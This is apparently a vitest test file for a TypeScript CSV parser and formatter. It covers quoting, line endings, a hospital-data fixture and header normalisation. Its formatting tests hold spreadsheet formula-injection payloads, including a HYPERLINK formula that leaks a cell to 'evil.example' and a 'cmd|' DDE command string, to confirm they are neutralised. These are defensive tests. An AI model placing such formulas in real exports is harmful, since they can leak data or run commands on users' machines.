import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { CsvParseError, formatCsv, formatCsvField, normalizeCsvHeader, parseCsv } from './csv';

const fieldsOf = (text: string) => parseCsv(text).map((record) => record.fields);

describe('parseCsv', () => {
  it('splits plain records and keeps empty fields', () => {
    expect(fieldsOf('a,b,c\n1,,3\n,,\n')).toEqual([
      ['a', 'b', 'c'],
      ['1', '', '3'],
      ['', '', ''],
    ]);
  });

  it('reads quoted fields with commas, doubled quotes and line breaks', () => {
    const text = 'name,address\n"Smith, Jones Clinic","12 Main St\nSuite 4"\n"The ""Best"" Clinic",x\n';
    expect(parseCsv(text)).toEqual([
      { fields: ['name', 'address'], line: 1 },
      { fields: ['Smith, Jones Clinic', '12 Main St\nSuite 4'], line: 2 },
      { fields: ['The "Best" Clinic', 'x'], line: 4 },
    ]);
  });

  it('accepts CRLF, lone CR, a byte-order mark and a missing final line break', () => {
    expect(fieldsOf('\uFEFFa,b\r\n1,2\r\n3,4')).toEqual([
      ['a', 'b'],
      ['1', '2'],
      ['3', '4'],
    ]);
    expect(fieldsOf('a\r1\r2')).toEqual([['a'], ['1'], ['2']]);
    expect(parseCsv('a\r\n"x\r\ny",z\r\nlast,1').map((r) => r.line)).toEqual([1, 2, 4]);
    expect(parseCsv('a\r\n"x\r\ny",z')[1]!.fields[0]).toBe('x\r\ny');
  });

  it('skips blank lines but counts them for line numbers', () => {
    expect(parseCsv('h\n\n\nrow\n\n')).toEqual([
      { fields: ['h'], line: 1 },
      { fields: ['row'], line: 4 },
    ]);
    expect(fieldsOf('h\n""\n')).toEqual([['h'], ['']]);
  });

  it('keeps spaces and a literal quote inside an unquoted field', () => {
    expect(fieldsOf(' a , 5" pipe ')).toEqual([[' a ', ' 5" pipe ']]);
  });

  it('refuses an unclosed quote and text after a closing quote, naming the line', () => {
    expect(() => parseCsv('a\n"open,1\n2')).toThrow(new CsvParseError('a quoted field is not closed', 2));
    expect(() => parseCsv('a\n"closed"x,1')).toThrow(CsvParseError);
    expect(fieldsOf('"padded"  ,b')).toEqual([['padded', 'b']]);
    expect(() => parseCsv('a\n"closed"x,1')).toThrow(/^line 2: unexpected text after a closing quote/);
  });

  it('reads a real CMS export: 67 hospitals of 28 columns, CRLF, one record per line', () => {
    // tests/fixtures/real/cms (CMS Hospital General Information, as a spreadsheet program saved it).
    const text = readFileSync(new URL('../../tests/fixtures/real/cms/hospital-general-information-excerpt.csv', import.meta.url), 'latin1');
    const records = parseCsv(text);
    expect(records).toHaveLength(68);
    expect(records.every((record) => record.fields.length === 28)).toBe(true);
    expect(records.map((record) => record.line)).toEqual(Array.from({ length: 68 }, (_, i) => i + 1));
    expect(records[0]!.fields.slice(0, 3)).toEqual(['Provider ID', 'Hospital Name', 'Address']);
  });

  it('returns nothing for empty input', () => {
    expect(parseCsv('')).toEqual([]);
    expect(parseCsv('\uFEFF\n\r\n')).toEqual([]);
  });
});

describe('formatCsv', () => {
  // Issue T3 1/7 item 16: a value a spreadsheet would evaluate is written as text.
  it('neutralises text that a spreadsheet would run as a formula', () => {
    expect(formatCsvField('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(formatCsvField('+1 312 555 0100')).toBe(`"'+1 312 555 0100"`);
    expect(formatCsvField("-2+3+cmd|' /C calc'!A0")).toBe(`"'-2+3+cmd|' /C calc'!A0"`);
    expect(formatCsvField('@SUM(1+1)')).toBe(`"'@SUM(1+1)"`);
    expect(formatCsvField('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(formatCsvField('\r=1+1')).toBe(`"'\r=1+1"`);
    // Numbers are numbers; a sign inside text is harmless.
    expect(formatCsvField(-5)).toBe('-5');
    expect(formatCsvField('a=b')).toBe('a=b');
    const text = formatCsv([['name'], ['=cmd()'], ['@evil']]);
    expect(fieldsOf(text)).toEqual([['name'], ["'=cmd()"], ["'@evil"]]);
  });

  it('quotes only what needs quoting and round-trips through the parser', () => {
    expect(formatCsvField('plain')).toBe('plain');
    expect(formatCsvField('a,b')).toBe('"a,b"');
    expect(formatCsvField('say "hi"')).toBe('"say ""hi"""');
    expect(formatCsvField(' padded')).toBe('" padded"');
    expect(formatCsvField(null)).toBe('');
    const rows = [
      ['name', 'note'],
      ['Smith, Jones', 'line 1\nline 2'],
      ['"Q"', ''],
    ];
    const text = formatCsv(rows);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(fieldsOf(text)).toEqual(rows);
  });
});

describe('normalizeCsvHeader', () => {
  it('ignores case, spaces, underscores and dashes', () => {
    expect(['Zip Code', 'zip_code', ' ZIP-CODE ', 'zipcode'].map(normalizeCsvHeader)).toEqual(['zipcode', 'zipcode', 'zipcode', 'zipcode']);
  });
});
